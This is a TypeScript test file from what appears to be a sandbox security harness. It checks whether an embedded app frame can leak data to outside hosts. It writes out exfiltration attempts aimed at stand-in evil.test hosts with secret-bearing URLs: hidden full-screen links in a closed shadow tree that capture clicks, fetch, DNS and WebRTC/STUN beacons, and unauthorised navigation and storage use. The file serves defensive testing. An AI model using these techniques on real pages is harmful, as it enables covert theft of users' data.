// Ways out that ask the host page or the server, and the proof that the sinks hear everything.
import { pause, type Stage, until } from "../arena/stage.ts";
import type { Finding, Vector } from "../arena/vector.ts";
import type { Hit } from "../sinks/hits.ts";
import type { Case } from "./case.ts";
import { attempt, check, frameState, removed } from "./check.ts";

/** Case 48: where the frame goes when it wants to go to a page of the server's own. */
async function towardsHost(stage: Stage, path: string): Promise<Finding> {
  const code = `document.addEventListener("click", ({ target }) => { if (target.id !== "go") return; window.hostileTried = true; location.href = ${JSON.stringify(stage.target.origin + path)}; });`;
  const control = await stage.control(code);
  await control.clickInFrame("#go");
  const arrived = async () => (await control.url()).startsWith(stage.target.origin);
  await until("the control arrives", arrived, 5_000).catch(() => {});
  const proof = await arrived();

  const tab = await stage.run(code);
  // Windows that open take clicks away: again, if this one was not seen to arrive.
  const tried = async () =>
    (await tab.inPage(frameState)).state === "error" || (await tab.inFrame(() => (window as any).hostileTried === true));
  for (let tries = 0; tries < 4 && !(await tried().catch(() => true)); tries++) {
    await tab.clickInFrame("#go");
    await pause(300);
  }
  // One browser shows an error in the frame, which the host page removes; another stays where it is.
  const error = await removed(tab, 2_500).catch(() => "");
  const documents = (await tab.frames()).join(" ");
  const held = proof && (error !== "" || (await tried())) && !documents.includes(stage.target.origin);
  return check(path, held, `${error || "The frame stays where it was."} It holds ${documents}; the control arrived`);
}

/** What a person does to open a link of the app's in another tab. */
export async function clickedByPerson(stage: Stage): Promise<Finding[]> {
  const code = `
    const link = document.createElement("a");
    link.id = "link";
    link.textContent = "Read more";
    link.style.cssText = "position:fixed;inset:0;background:white";
    // In a closed tree nobody outside sees that it is a link, and no listener below hears of the click.
    const stop = (event) => event.stopImmediatePropagation();
    for (const type of ["click", "auxclick"]) window.addEventListener(type, stop, true);
    window.hostileAim = (url) => { link.href = url; };
    setTimeout(() => {
      const host = document.createElement("div");
      host.id = "host";
      host.style.cssText = "position:fixed;inset:0";
      document.body.append(host);
      host.attachShadow({ mode: "closed" }).append(link);
    }, 300);`;
  const control = await stage.control(code);
  const tab = await stage.run(code);
  await pause(400);
  const aim = (url: string) => (window as any).hostileAim(url) as void;
  const findings: Finding[] = [];
  for (const how of ["with Ctrl", "with Shift", "with the middle button"] as const) {
    const [tag, controlTag] = [stage.sinks.tag(38), stage.sinks.tag(38)];
    await control.inPage(aim, `http://${controlTag}.evil.test/?secret`);
    await tab.inFrame(aim, `http://${tag}.evil.test/?secret`);
    for (const each of [control, tab]) await each.clickInFrame("#host", how);
    const arrived = await stage.sinks.hits(controlTag, 4_000);
    const hits = await stage.sinks.hits(tag, 1_500);
    findings.push(judged(stage, `a person's click ${how}`, hits, arrived));
    if (hits.length === 0) await stage.sinks.sealed(tag, `38 a person's click ${how}`);
  }
  return findings;
}

function judged(stage: Stage, vector: string, hits: readonly Hit[], arrived: readonly Hit[]): Finding {
  // Firefox connects to a link as soon as a button is pressed on it; what it asks then is only a name.
  const ahead = stage.arena.name === "firefox" && hits.length > 0 && hits.every(({ via }) => via === "dns");
  if (ahead) return { vector, outcome: "leaked, as known", seen: "the name was looked up when the button was pressed; no request" };
  if (hits.length > 0) return { vector, outcome: "leaked", seen: hits.map(({ via, what }) => `${via} ${what}`).join(", ") };
  if (arrived.length === 0) return { vector, outcome: "failed", seen: "proves nothing: the control did not arrive" };
  return { vector, outcome: "blocked", seen: `nothing arrived; the control arrived by ${arrived[0]?.via}` };
}

const kinds: readonly Vector[] = [
  { name: "dns", attack: ({ host }) => fetch(`http://${host}:81/`) },
  { name: "http", attack: ({ http }) => fetch(http, { mode: "no-cors" }) },
  { name: "tls", attack: ({ https }) => fetch(https, { mode: "no-cors" }) },
  {
    name: "udp",
    attack: async ({ ip, udp }) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${ip}:${udp}` }] });
      connection.createDataChannel("x");
      await connection.setLocalDescription(await connection.createOffer());
      Object.assign(window, { hostileKeep: connection });
    },
  },
];

/** Cases 44 and 48 to 51. */
export const asks: readonly Case[] = [
  {
    id: 44,
    title: "shared and service workers",
    category: "exfiltration",
    async run(stage) {
      const tab = await stage.run("");
      const seen = await tab.inFrame(async () => {
        const url = URL.createObjectURL(new Blob(["onconnect = () => {}"], { type: "text/javascript" }));
        const tries: Record<string, () => unknown> = {
          "shared worker": () => {
            const shared = new SharedWorker(url);
            return new Promise((resolve, reject) => {
              shared.onerror = () => reject(new DOMException("", "did not start"));
              shared.port.start();
              setTimeout(() => resolve("started"), 500);
            });
          },
          "service worker": () => navigator.serviceWorker.register("js/app.js"),
          caches: () => caches.open("evil"),
          IndexedDB: () =>
            new Promise((resolve, reject) => {
              const request = indexedDB.open("evil");
              request.onsuccess = resolve;
              request.onerror = () => reject(request.error);
            }),
          "file system": () => navigator.storage.getDirectory(),
          "cookie store": () => (window as any).cookieStore.set("evil", "1"),
        };
        const results: Record<string, string> = {};
        for (const [name, attack] of Object.entries(tries)) {
          try {
            await attack();
            results[name] = "worked";
          } catch (error) {
            results[name] = (error as Error).name;
          }
        }
        return results;
      });
      return Object.entries(seen).map(([name, result]) => check(name, result !== "worked", result));
    },
  },
  {
    id: 48,
    title: "navigating to the server's own pages",
    category: "exfiltration",
    async run(stage) {
      const paths = ["/", "/login", "/api/apps", "/settings", "/?token=x"];
      return await Promise.all(paths.map((path) => towardsHost(stage, path)));
    },
  },
  {
    id: 49,
    title: "openLink with a secret in the address",
    category: "exfiltration",
    async run(stage) {
      const [tag, controlTag] = [stage.sinks.tag(49), stage.sinks.tag(49)];
      const url = `http://secret.${tag}.evil.test/?secret`;
      const tab = await stage.run("");
      await tab.inFrame((address: string) => {
        const link = (window as any)[Symbol.for("cumulonimbus")];
        void link.call("ui.openLink", { url: address }).catch(() => {});
      }, url);
      const shown = () => tab.inPage((text: string) => document.body.innerText.includes(text), url);
      await until("the host page asks", shown, 5_000).catch(() => {});
      const asked = await shown();
      const control = await stage.control(
        `document.body.insertAdjacentHTML("beforeend", '<a href="http://${controlTag}.evil.test/">x</a>');`,
      );
      const arrived = await stage.sinks.hits(controlTag, 6_000);
      await control.close();
      const hits = await stage.sinks.hits(tag, 2_000);
      await stage.sinks.sealed(tag, "49 openLink");
      return [
        check("the question", asked && (await tab.popups()).length === 0, "the host page shows the whole address and opens nothing"),
        arrived.length === 0 && hits.length === 0
          ? { vector: "the name before an answer", outcome: "unsupported", seen: "nothing arrived, nor from the control: the browser looks up no names of links" }
          : check(
          "the name before an answer",
          hits.length === 0 && arrived.length > 0,
          hits.map(({ via, what }) => `${via} ${what}`).join(", ") || `not looked up; the control's link was, by ${arrived[0]?.via ?? "nothing"}`,
        ),
      ];
    },
  },
  {
    id: 50,
    title: "http.fetch without a grant",
    category: "exfiltration",
    async run(stage) {
      const tag = stage.sinks.tag(50);
      const tab = await stage.run("");
      const params = { url: `https://${tag}.evil.test/?secret` };
      const seen = await tab.inFrame(attempt, { method: "http.fetch", params });
      const hits = await stage.sinks.hits(tag, 1_000);
      await stage.sinks.sealed(tag, "50 http.fetch");
      return [check("an undeclared domain", seen.startsWith("refused") && hits.length === 0, seen)];
    },
  },
  {
    id: 51,
    title: "the sinks hear everything",
    category: "exfiltration",
    run: (stage) => stage.hear(51, kinds),
  },
];
